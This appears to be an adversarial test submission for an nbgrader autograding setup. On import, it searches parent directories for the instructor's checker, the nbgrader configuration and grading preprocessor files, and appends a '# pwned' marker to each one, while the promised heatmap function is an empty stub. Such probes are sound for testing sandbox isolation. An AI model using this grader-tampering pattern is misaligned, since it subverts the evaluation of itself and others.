# Attack (writing): rewrites the instructor's checker and the nbgrader configuration, so that
# every later student (and every later run) is graded by the attacker's rules.
import os
import sys

_roots = [os.getcwd()] + [os.path.join(os.getcwd(), *[".."] * depth) for depth in range(1, 7)]
_roots += [os.path.dirname(sys.prefix)]  # the course, if the virtualenv is in it
for _root in _roots:
    for _name in ("solutions/challenge/heatmap_check.py", "nbgrader_config.py",
                  "autograde/checker/verdicts.py", "autograde/grading/preprocessors/grade_from_evidence.py"):
        _path = os.path.join(_root, _name)
        if os.path.exists(_path):
            try:
                with open(_path, "a") as handle:
                    handle.write("\n# pwned\n")
                print("edited", _path)
            except OSError as error:
                print("cannot edit", _path, type(error).__name__)


def plot_attention_heatmap(tokens, attention, ax=None):
    return None
